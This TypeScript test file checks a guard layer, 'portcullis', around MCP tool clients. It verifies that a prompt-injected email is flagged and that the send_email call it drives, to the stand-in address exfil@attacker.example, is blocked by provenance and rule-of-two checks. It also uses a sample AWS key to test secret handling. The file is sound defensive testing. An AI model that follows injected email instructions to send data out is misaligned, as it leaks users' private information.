// guardClient around the official MCP SDK Client, connected over real stdio to the proxy tests'
// email server. The same scenario is then run through `portcullis proxy` (a stdio subprocess) and
// through guardClient: the decisions, rules, flags and audit records must be the same.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { guardClient } from '../../src/adapters/index.js';
import { verifyAuditLog } from '../../src/audit/index.js';
import type { ApprovalChannel, ToolResult } from '../../src/guard/index.js';
import { connectDirect, connectThroughProxy, ensureBuilt, tempDir } from '../proxy/helpers.js';

type Meta = { decision: string; rule: string; flags: string[]; labels?: unknown };
const meta = (r: unknown) => (r as ToolResult)._meta?.portcullis as Meta;
const text = (r: unknown) => (r as ToolResult).content.map((c) => c.text ?? '').join('\n');

const dir = tempDir();
const clients: Client[] = [];
afterAll(async () => {
  for (const c of clients) await c.close().catch(() => undefined);
});

async function mailClient(sentLog: string): Promise<Client> {
  const client = await connectDirect('email.mjs', { SENT_LOG: sentLog });
  clients.push(client);
  return client;
}

function records(file: string): Record<string, unknown>[] {
  return readFileSync(file, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>)
    .filter((r) => r.type === 'decision');
}

describe('guardClient over real stdio', () => {
  it('keeps honest use working and labels the tools; the audit log verifies', async () => {
    const sent = join(dir, 'honest-sent.jsonl');
    const audit = join(dir, 'honest.jsonl');
    const client = await mailClient(sent);
    const guarded = await guardClient(client, { audit });
    expect(guarded.server).toBe('mail');

    const { tools } = await guarded.listTools();
    const straight = (await client.listTools()).tools;
    expect(tools.map((t) => t.name)).toEqual(straight.map((t) => t.name));
    const send = tools.find((t) => t.name === 'send_email');
    expect((send?._meta?.portcullis as { labels?: { sink: string[] } } | undefined)?.labels?.sink).toContain(
      'external',
    );

    const echo = await guarded.callTool({ name: 'echo', arguments: { text: 'hello there' } });
    expect(text(echo)).toBe('hello there');
    expect(meta(echo).decision).toBe('allow');
    const mail = await guarded.callTool({
      name: 'send_email',
      arguments: { to: 'alice@example.com', subject: 'Lunch', body: 'Friday works.' },
    });
    expect(mail.isError).toBeFalsy();
    expect(readFileSync(sent, 'utf8')).toContain('alice@example.com');
    const progress: number[] = [];
    const counted = await guarded.callTool(
      { name: 'slow_count', arguments: { n: 3 } },
      { onprogress: (p) => progress.push(p.progress) },
    );
    expect(text(counted)).toBe('counted to 3');
    // The SDK client settles a response at once but runs notification handlers a microtask later and
    // then has forgotten the token: a last note read together with the result is dropped by the SDK,
    // whatever the sender does (test/proxy/stdio.test.ts checks on the wire that every note precedes
    // the result). The notes seen are the first ones, in order; the server spaces them 5 ms apart.
    expect(progress.length).toBeGreaterThanOrEqual(2);
    expect(progress).toEqual([1, 2, 3].slice(0, progress.length));
    const resource = await guarded.readResource({ uri: 'mail://inbox/1' });
    expect(resource.contents).toEqual((await client.readResource({ uri: 'mail://inbox/1' })).contents);
    const prompt = await guarded.getPrompt({ name: 'summarize', arguments: { id: '1' } });
    expect(prompt.messages).toEqual(
      (await client.getPrompt({ name: 'summarize', arguments: { id: '1' } })).messages,
    );
    await guarded.close();

    const verified = await verifyAuditLog(audit);
    expect(verified.ok, JSON.stringify(verified.problems)).toBe(true);
    const calls = records(audit).filter(
      (r) => r.method === 'tools/call' && (r.meta as { phase?: string }).phase === 'call',
    );
    expect(calls.map((r) => [r.tool, r.decision])).toEqual([
      ['echo', 'allow'],
      ['send_email', 'allow'],
      ['slow_count', 'allow'],
    ]);
  });

  it('an injected email cannot drive send_email (provenance, then rule of two); nothing reaches the server', async () => {
    const sent = join(dir, 'inject-sent.jsonl');
    const audit = join(dir, 'inject.jsonl');
    const guarded = await guardClient(await mailClient(sent), { audit });
    const email = await guarded.callTool({ name: 'read_email', arguments: { id: '2' } });
    expect(meta(email).flags).toContain('injection');
    expect(text(email)).toMatch(/<<data-[0-9a-f]+>>/);
    const exfil = await guarded.callTool({
      name: 'send_email',
      arguments: { to: 'exfil@attacker.example', subject: 'notes', body: 'x' },
    });
    expect(exfil.isError).toBe(true);
    expect(meta(exfil)).toMatchObject({ decision: 'deny', rule: 'provenance' });
    await guarded.callTool({ name: 'read_notes', arguments: {} });
    const other = await guarded.callTool({
      name: 'send_email',
      arguments: { to: 'bob@example.com', subject: 's', body: 'b' },
    });
    expect(meta(other)).toMatchObject({ decision: 'deny', rule: 'rule-of-two' });
    expect(existsSync(sent)).toBe(false);
    const res = await guarded.readResource({ uri: 'mail://inbox/2' });
    expect(JSON.stringify(res.contents)).toContain('[portcullis]');
    await guarded.close();
    expect((await verifyAuditLog(audit)).ok).toBe(true);
  });

  it('asks the approval channel for a rule-of-two call and forwards it only when granted', async () => {
    for (const granted of [true, false]) {
      const sent = join(dir, `approval-${granted}-sent.jsonl`);
      const asked: string[] = [];
      const approvals: ApprovalChannel = {
        name: 'test',
        available: () => true,
        ask: async (request) => {
          asked.push(`${request.call.tool}:${request.verdict.rule}`);
          return { granted, scope: 'once', by: 'test' };
        },
      };
      const guarded = await guardClient(await mailClient(sent), {
        audit: join(dir, `approval-${granted}.jsonl`),
        approvals,
      });
      await guarded.callTool({ name: 'read_email', arguments: { id: '1' } });
      await guarded.callTool({ name: 'read_notes', arguments: {} });
      const r = await guarded.callTool({
        name: 'send_email',
        arguments: { to: 'bob@example.com', subject: 's', body: 'b' },
      });
      await guarded.close();
      expect(asked).toEqual(['send_email:rule-of-two']);
      expect(r.isError ?? false).toBe(!granted);
      expect(existsSync(sent)).toBe(granted);
    }
  });

  it('refuses an unconnected client at setup', async () => {
    const { Client: SdkClient } = await import('@modelcontextprotocol/client');
    await expect(guardClient(new SdkClient({ name: 'x', version: '1' }))).rejects.toThrow(/connected Client/);
  });
});

/** The scenario both paths run: every step's answer, reduced to what the guard decided. */
async function scenario(c: {
  callTool(p: { name: string; arguments?: Record<string, unknown> }): Promise<unknown>;
  readResource(p: { uri: string }): Promise<{ contents: unknown[] }>;
  getPrompt(p: { name: string; arguments?: Record<string, string> }): Promise<{ messages: unknown[] }>;
}): Promise<unknown[]> {
  const steps: unknown[] = [];
  const call = async (name: string, args: Record<string, unknown>) => {
    const r = await c.callTool({ name, arguments: args });
    const m = meta(r);
    steps.push([name, m.decision, m.rule, m.flags, m.labels, (r as ToolResult).isError ?? false]);
  };
  await call('echo', { text: 'hello' });
  await call('send_email', { to: 'alice@example.com', subject: 'Lunch', body: 'Friday works.' });
  await call('read_email', { id: '2' });
  await call('send_email', { to: 'exfil@attacker.example', subject: 'notes', body: 'x' });
  await call('read_notes', {});
  await call('send_email', { to: 'bob@example.com', subject: 's', body: 'b' });
  await call('echo', { text: 'AKIAIOSFODNN7EXAMPLE is my key' });
  const res = await c.readResource({ uri: 'mail://inbox/2' });
  steps.push(['resource', JSON.stringify(res.contents).includes('[portcullis]')]);
  const prompt = await c.getPrompt({ name: 'summarize', arguments: { id: '2' } });
  steps.push(['prompt', JSON.stringify(prompt.messages).includes('[portcullis]')]);
  return steps;
}

/** Audit records reduced to what must match between the two paths. */
function decisions(file: string): unknown[] {
  return records(file).map((r) => {
    const m = (r.meta ?? {}) as { phase?: string; flags?: string[] };
    return [r.server, r.tool, r.method, r.decision, r.rule, r.labels, m.phase ?? '', m.flags ?? []];
  });
}

describe('guardClient and portcullis proxy decide alike', () => {
  beforeAll(() => ensureBuilt(), 300_000);

  it('the same scenario gives the same decisions, rules, flags and audit records', {
    timeout: 120_000,
  }, async () => {
    const proxyAudit = join(dir, 'equiv-proxy.jsonl');
    const { client: viaProxy } = await connectThroughProxy({
      // No approval channel on either side: require-approval is denied alike.
      proxyArgs: ['--audit', proxyAudit, '--approval', 'none'],
      server: 'email.mjs',
      env: { SENT_LOG: join(dir, 'equiv-proxy-sent.jsonl') },
    });
    clients.push(viaProxy);
    await viaProxy.listTools();
    const fromProxy = await scenario(viaProxy as never);
    await viaProxy.close();

    const clientAudit = join(dir, 'equiv-client.jsonl');
    const guarded = await guardClient(await mailClient(join(dir, 'equiv-client-sent.jsonl')), {
      audit: clientAudit,
    });
    await guarded.listTools(); // as the proxy lists at start and again when its client asks
    const fromClient = await scenario(guarded);
    await guarded.close();

    expect(fromClient).toEqual(fromProxy);
    // Sanity: the scenario exercised allow, deny and flagged results.
    expect(JSON.stringify(fromClient)).toMatch(/provenance.*rule-of-two/);
    expect(decisions(clientAudit)).toEqual(decisions(proxyAudit));
  });
});
